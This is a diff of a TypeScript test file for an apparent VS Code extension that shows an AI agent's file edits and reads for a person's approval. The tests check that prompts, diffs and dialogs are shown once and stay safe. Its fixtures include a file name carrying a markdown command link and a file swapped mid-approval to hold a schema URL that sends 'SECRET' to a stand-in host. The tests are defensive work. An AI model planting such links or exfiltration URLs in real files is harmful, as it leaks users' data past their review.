@@ -22,9 +22,9 @@ async function invoke(name: string, input: object, { token = never, tokenization
 
 const text = (value: unknown): string | undefined => (value as MarkdownString | undefined)?.value;
 
-async function prepare(name: string, input: object): Promise<{ readonly says: string | undefined; readonly title: string | undefined; readonly message: string | undefined }> {
+async function prepare(name: string, input: object): Promise<{ readonly says: string | undefined; readonly asks: unknown }> {
   const { invocationMessage, confirmationMessages } = (await tool(name).prepareInvocation({ input }, never)) ?? {};
-  return { says: text(invocationMessage), title: confirmationMessages?.title, message: text(confirmationMessages?.message) };
+  return { says: text(invocationMessage), asks: confirmationMessages };
 }
 
 const at = (path: string): string => join(folder, 'others', path);
@@ -38,6 +38,12 @@ async function shownToken(): Promise<string> {
   }
   return assert.fail('No diff was shown.');
 }
+
+/** The tokens of the proposals whose diffs were shown. */
+const tokens = (): readonly string[] => called('executeCommand').flatMap(([id, , right]) => (id === 'vscode.diff' ? [(right as { readonly path: string }).path.split('/')[1] ?? ''] : []));
+
+/** The title of a diff. */
+const nameOf = (token: string): string => String(called('executeCommand').find(([id, , right]) => id === 'vscode.diff' && (right as { readonly path: string }).path.includes(token))?.[3]);
 
 /** The questions of the host, in words. */
 const asked = (): readonly string[] => called('showWarningMessage').map(([words, options]) => `${String(words)}\n${(options as { detail?: string }).detail ?? ''}`);
@@ -66,13 +72,34 @@ describe('the tools as VS Code calls them', () => {
   });
 
   it('say beforehand what they will do, as text in which a file\'s name is no link', async () => {
-    assert.deepEqual(await prepare('read_file', { path: 'others/a.ts' }), { says: 'Read others/a.ts', title: undefined, message: undefined });
-    const { says, title, message } = await prepare('edit_file', { path: 'others/[a](command:x).ts', edits: [{ search: 'a', replace: 'b' }] });
-    assert.deepEqual([says, title], ['Edit others/[a] (command:x).ts', 'Let this agent use Rivulet?']);
-    assert.match(message ?? '', /^Edit others\/\[a\] \(command:x\)\.ts\n.*nothing is written before you accept it there/);
-    assert.match((await prepare('read_file', { path: 'others/.env' })).message ?? '', /^Read others\/\.env\n.+\nA dialog of Rivulet/);
-    assert.deepEqual(await prepare('read_file', {}), { says: undefined, title: undefined, message: undefined });
+    assert.equal((await prepare('read_file', { path: 'others/a.ts' })).says, 'Read others/a.ts');
+    assert.equal((await prepare('edit_file', { path: 'others/[a](command:x).ts', edits: [{ search: 'a', replace: 'b' }] })).says, 'Edit others/[a] (command:x).ts');
+    assert.equal((await prepare('read_file', {})).says, undefined);
+  });
+
+  it('have VS Code ask nothing beforehand, for each question comes from the call itself, once', async () => {
+    const change = { path: 'others/a.ts', edits: [{ search: 'one', replace: 'ONE' }] };
+    for (const [name, input] of [['read_file', { path: 'others/.env' }], ['edit_file', change], ['move_file', { path: 'others/a.ts', new_path: '.vscode/a.json' }]] as const) assert.equal((await prepare(name, input)).asks, undefined, name);
     assert.deepEqual(asked(), []);
+    await invoke('read_file', { path: 'others/.env' });
+    assert.equal(asked().length, 1);
+    const answer = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
+    await handlers.get('rivulet.rejectAll')?.(await shownToken(), 0);
+    await answer;
+    assert.deepEqual([called('withProgress').length, asked().length], [1, 1]);
+  });
+
+  it('show several proposals at a time, each decided by itself', async () => {
+    const [first, second] = ['a', 'b'].map(async (name) => invoke('create_file', { path: `others/new-${name}.ts`, content: 'x\n' }));
+    for (let attempt = 0; attempt < 100 && tokens().length < 2; attempt += 1) await settle();
+    assert.equal(new Set(tokens()).size, 2, 'the second waits for the first');
+    const [b] = tokens().filter((token) => nameOf(token).includes('new-b'));
+    await handlers.get('rivulet.acceptAll')?.(b, 0);
+    assert.match((await second) ?? '', /^Applied: others\/new-b\.ts/);
+    const [a] = tokens().filter((token) => nameOf(token).includes('new-a'));
+    await handlers.get('rivulet.rejectAll')?.(a, 0);
+    assert.match((await first) ?? '', /^The person rejected this/);
+    assert.equal(called('applyEdit').length, 1);
   });
 
   it('speak the language of the display', async () => {
@@ -133,19 +160,20 @@ describe('the tools as VS Code calls them', () => {
     assert.equal(asked().length, 2);
   });
 
-  it('ask in a dialog about a change without lines whatever becomes of its file before it is its turn', async () => {
+  it('ask in a dialog about a change without lines again when its file has become another meanwhile', async () => {
+    const dialog = Promise.withResolvers<string>();
+    answers.set('showWarningMessage', [dialog.promise]);
     const first = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
     const token = await shownToken();
     const second = invoke('move_file', { path: 'others/a.ts', new_path: 'others/a.json' });
-    // Nothing tells from outside when the second call has come to wait behind the first.
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    assert.deepEqual(asked(), []);
+    while (asked().length === 0) await settle();
     writeFileSync(at('a.ts'), '{"$schema":"https://evil.invalid/?d=SECRET"}\n');
+    dialog.resolve('Move It');
+    assert.match(await second, /^The person rejected this/);
+    assert.deepEqual(called('applyEdit'), []);
+    assert.match(asked()[1] ?? '', /^Let the model move others\/a\.ts to others\/a\.json\?\nAnother agent asks[\s\S]*https:\/\/evil\.invalid/);
     await handlers.get('rivulet.acceptAll')?.(token, 0);
     assert.match(await first, /^Applied/);
-    assert.match(await second, /^The person rejected this/);
-    assert.equal(called('applyEdit').length, 1);
-    assert.match(asked().join(), /^Let the model move others\/a\.ts to others\/a\.json\?\nAnother agent asks[\s\S]*https:\/\/evil\.invalid/);
   });
 
   it('take Cancel for a no also while the dialog is open', async () => {
